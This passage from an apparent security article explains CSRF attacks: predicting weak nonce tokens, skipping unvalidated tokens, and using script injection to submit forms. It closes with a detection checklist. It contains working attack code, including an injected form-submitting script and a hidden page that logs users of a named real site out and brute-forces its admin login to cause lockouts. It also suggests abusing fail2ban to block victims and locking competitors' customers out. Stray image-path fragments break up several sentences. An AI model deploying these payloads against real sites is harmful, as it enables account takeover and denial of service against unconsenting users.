For interesting techniques, you will want to look into malware distribution groupsand data. Drive-by malware need to have exploit packs finish which may require attacks that take a while to work like large heap sprays. They like using movie/music streaming to keep them on the page while the work gets done in the background.

For use until action or per session tokens, you can attempt to bruteforce a token with the given character set. However, there’s a more elegant solution to this and will bypass server-side token attempt limits. The technique involves the token being used with GET so it is passed via url. We can use browser history tricks like the old CSS history hack[3] which onlyvalidates client-side and never needs to touch victimsite.com. While these techniques are out of the scope for this document,I have provided a link to a proof of concept of this technique[4]. The more validation turns to accessible client-side storage, like local storage, local sql databases, and etc., the more may be possible without ever having to generate requests to external origin’s. Thanks to HTML5, this is the way the web is moving to offload from remote servers.

With always random, but weak size and character set, your goal is to generate one good token and constantly hit the form with your generated token until successful. The next question becomes how to tell if the attack was successful or not? If we are talking about a simple password change form exploit from a remote php webserver, you can use cURL to attempt to login to the account with your defined values. If successful, stop, if not then continue looping around your chunk of script/code. It is suggested to try a large set of bruteforce attempts before checking if login is successful as to lower lockouts, bruteforce alerts, and large amounts of traffic to victimsite.com.

Bruteforcing isn’t the most elegant solution and there’s lots of ways to deny such simple attacks by invalidating the user/session/ip after many failed token validations attempts.

Next, it’s important to discuss weaknesses in the algorithm itself. The code that floats around most sites for secure generation involve base64 encoding an algorithm that uses time() and another value. However, time() in PHP is based on epoch, which is a known value:

“Returns the current time measured in the number of seconds since the Unix Epoch (January 1 1970 00:00:00 GMT). “[2]

This means we can generate our own time() locally and not worry about this piece of entropy. The next step is to take a look at other sources of entropy that may be used in the algorithm. Typically this involves something from the userso the token generated from one user is not the same as another user. Because of this there ends up being lots of room for basic mistakes such as using a statically known value like the username. Perhaps such an algorithm:

$token = base64_encode(time() + $username);

The username is used to exploit the password change example, so this value is also known to us. As we can generate the same time() that the remote server would, we now have both pieces of entropy to generate a valid token for the victim’s action. Attacking over the internet will involve some lag time from the local time() generation than the server’s time(), so a little math, responsetimestamps, and any further validation may be needed. This could end up taking a few attempts during the victim’s visit. Even with these minor issues it is a much more reliable exploit.
Finally, there may also be issues with the language’s use of certain functions. Some function that may have been a secure form of entropy may no longer be secure. Samy Kamkar discovered this and used the discovery to know supposedly random session values to attack Facebook. He then proceeded to make a humorous blackhat presentation (video and/or presentation) out of it that I highly suggest if you are looking for cryptographic weaknesses[7]. These types of issues exist and are generally very dangerous when discovered, so the issues are reported quiet often. It is best to check/follow the language’s bug tracker to find more relevant cryptographic weaknesses.

Improper Nonce Validation

With the harder way to defeat nonce checking is out of the way, let’s talk about improper validation. This vulnerability exists in a lot of web sites including popular sites. What happens is a secure token will be generated and a good implementation used, but the code never validates the token when the actions are attempted. For the example password change form, let’s change nothing about it and keep the hidden nonce token field. Let’s assume that it uses appropriate entropy and a limit on token failures per session. What happens if we were to submit that form without even including the token value or the entire field? If the password still changes it means that they generate a valid nonce, but they never validate against it for the action.

It seems almost unbelievable this would happen in popular/production sites, but I would like to show an example that my friend M.J. Keith found in Facebook’s implementation[5]. Facebook created their token with the name of post_form_id that allowed different user actions. When this field was simply removed from therequest, the action was still performed. This makes all the nonce security pointless.

Script Injection Invalidates Most Security

The final form of attack to discuss is chaining vulnerabilities. You can have the best security against CSRF exploits, but if a javascript injection attack exists in the same origin it invalidates any security. The reason is Javascript has access to all html objects and attributes on the page via the DOM. Let’s take our hidden field nonce token:

<input type=”hidden” value=”3c8376f8198cd374” name=”token” />

Let’s also take a look at our simple javascript form submission line:

<body onload=’document.changepassform.submit();’>

By object names you can select the contents of the nonce token and plant it into the appropriate value for your form. The document.changepassform.token.value element should give you access to this data. If the form name is dynamic or just doesn’t have a name, you can also access the forms by using forms[#] and elements byforms[#].elements[#]. These values start at 0 and will increase for each form seen in the document (page). For example, let’s say our changepass form was the first form on the page. We could create our own form and fill in the token with a token from another form or we can submit a form already on the page by filling in everything other than the token and submitting it. Let’s say an injection was found that allows script insertion after the form. Also, let’s say the target form is the first in the document. If the form is:

<form action=”changepass.php” method=”POST” name=”myform”>
Username: <input type=”text” value=”” name=”user” />
Password: <input type=”password” value=”” name=”pass” /><input type=”hidden” value=”3c8376f8198cd374” name=”token” />
<input type=”submit” value=”submit” /> </form>

Our injection would then be:

<script> document.forms[0].user.value=”admin”; document.forms[0].pass.value=”hello”; document.forms[0].submit();</script>

This allows us to completely bypass any nonce token checking with a reflective script injection.

Detecting Vulnerabilities

There are several ways to detect this type of vulnerability when looking at a web application. Some people do it by inspecting each form with firebug, but I find it easier to look at the requests coming across to see any exploitable background activity. Seeing as I use Firefox I’ll be using the “Live HTTP Headers” (LHH from now on) and “Web Developer’s Toolbar” plugins. We will be using a place called securityoverride.com to play on. The reason I chose this website is I want to show you how to filter out junk traffic to get what you want. It also runs a popular CMS called php-fusion, thus showing you how widespread these issues are.

Let’s begin bystarting up LHH and attempting to login. You should notice a lot of background noise. The reason is the site uses ajax chatboxes for the users and it updates frequently. To filter out the noise, the tool can be given a regex expression for blacklists. In the LHH window/tab, navigate over to the “Config” section and check “Exclude URLs with regexp”. If you see something you want to filter then append it to the current exclusions with |texttoexclude. Here is my exclude list for securityoverride:

.gif$|.jpg$|.ico$|.css$|.js$|.png$|chat|check|shoutbox .

With LHH capturing, submit the form and take a look at the parameters being passed. When submitting user as admin and password as blah, this is what I see:

 There are three parameters being passed for the login. The parameters are user_name, user_pass, and login via POST. None of these values are random. Two parameters we may or may not know depending on the attack and one static value we don’t have to worry about (login=Login). Now, you can create an account and keep clicking on the different forms and seeing the background activity to look for attack vectors. Given article size, I will show you one avenue to get started, the logout link. The logout feature uses a basic GET query to log the user out.

Just make a request for /setuser.php?logout=yes to log the current user out. From here, you can check for local attack vectors. We have url given avatars, forum images, signature images, etc. Lots of things that allow for local vectors to log a user out, but some restriction bypassing may berequired. The goal of a lone logout csrf is to make the injection reach the front page (shoutboxes are awesome for this) and log everyone out as soon as they log in.

To move things along, I want to instead look at a remote attack vector. We can log a person out and perform login attempts as the victim. These kinds of actions are not usually given a random nonce because it doesn’t directly effect the user. However, let’s think like a malicious attacker and see what is possible with these two actions? Think about business logic flaws. In this case, too much security causing the issue of denying service.

Have you been to a site that employs account lockouts, ip lockouts, session destruction, and etc. after a certain amount of failed login attempts? How about after failed token guess attempts? Exploit attempts? Well, why don’t we attempt to log the user out and bruteforce an account in hopes to lock their own account or ip. Let’s take a look at a script I wrote to do just that:

<iframe src=”http://securityoverride.com/setuser.php?logout=yes” name=”brute” style=”display:none;”></iframe>
<form target=”brute” action=”http://securityoverride.com/news.php” method=”POST” name=”myform”>
<input style=”display:none;”type=”text” value=”” name=”user_name” />
<input style=”display:none;” type=”password” value=”” name=”user_pass” />
<input style=”display:none;” type=”submit” name=”login” value=”Login” onClick=”submitit()” /> </form>
<textarea name=”puthere” rows=”30″ cols=”40″ id=”puthere”>Signed user out of account…</textarea>


var i = 5; // set amount to bruteforce before lockout
var z = 0; // how many hits
hit = setInterval(‘document.forms[0].login.click()’,5000); // click() instead of submit() to pass submit value
function submitit() {

key = Math.random(); // random pass for PoC
document.getElementById(“puthere”).innerHTML = document.getElementById(“puthere”).innerHTML + “\nAttacking admin with “+key;
document.forms[0].user_name.value=”admin”; // static for one user attack (login limits)
document.forms[0].user_pass.value=key; // randomly generated pass
z = z+1;
if (z == i) {
window.clearInterval(hit); // Once lockout is hit, stop attack


</script> </body></html>

The text area will be dynamically updated with actions of the script and everythingelse is hidden with style=display:none. We are attempting to log the user out and guess passwords for the account “admin” every 5 seconds. You would want to view the iframe to validate the remote vector doesn’t have extra security like referrer checking. Make sure the iframe gives you the appropriate error or you see the appropriate responses in LHH. Running the above script on aremote server shows:

This screenshot validates that the attack works. All wanted parameters are sent via POST and the appropriate response from the victim server is seen (error=3 means login failed). securityoverride.com does not employ login attempt lockouts and a live sample for this magazine may cause issues. I included this to show you how to think about such indirect attacks when looking at the actions available to you. Logins and the like are generally ignored because they can’t be directly used to compromise accounts, but many possibilities exist beyond compromise. My favorite is abusing IPS systems on victimsite.com and sending attack traffic from a victim to get their ip blocked (remove 5 second timer and have fun with fail2ban). What effect could a spear phishing campaign to block people out of a competitor’s product have?


Cross-site request forgery is a very simple attack to perform and can cause devastating effects. These issues exist all over as they are easy to forget or not see value in immediately. I hope I gave you enough information and ammo to test and prove such attack vectors.

Black Box Vulnerability Detection List

Check all user actions for nonce tokens

  • If no nonce token check then look at the http method
    • If GET used then validate action was performed• If action performed then validate from another account (unique parameters)
        • If validated then check for local attack vectors through valid injections (signatures, avatars, banners, embedded videos, etc.) or script injection attacks (xss, sql insert, etc.)
          • If no local vectors or local is not needed then validate from remote vector
            • If remote vector does not work, perhaps referrer checkingis used
        • If validation fails then check variables and see if user data or any unique data is present in the request
          • If user data, check if you can retrieve that data with client-side attacks like history finding
          • If user data, check if you can retrieve that data with image validation with onerror or relevant event handlers (ex: user data in directory path ofprivate image)
    • If POST used then check if action can be performed with GET ($_REQUEST used)
      • Repeat steps for GET validation with exclusion of valid injections
  • If nonce tokens then check for improper implementation, entropy, and/or validation
    • Generate lots of tokens quickly
      • Be wary of accidentally causing a DoS or getting ip blocked automatically or manually
        • Ifwary then make slow or chunked requests to random pages with available nonces on randomized timer within minimum and maximum limit (ex: 5-30 seconds).
    • Are the tokens random always, per action, or per session
    • Are the tokens created using remotely accessible content loaded by the user like ajax (<script src=”http://victimsite.com/generate_nonce.js”>)
    • Check if PRNG is based off data we know like time() and/or factual user data (like username)
      • Decode any encoding like base64 if applicable before looking
    • Are the tokens properly validated
      • Perform action without nonce token value
      • Perform action without nonce token field
    • Are the tokens bruteforceable
      • Check for small token size and/or weak character sets (ex: 0-9)
      • Look for patterns in generation (ex: statically placed characters in multiple or all tokens)
        • If it starts off good and gets weaker later on, perhaps entropy exhaustion
      • Fail lots of token checks to find any token guess limits
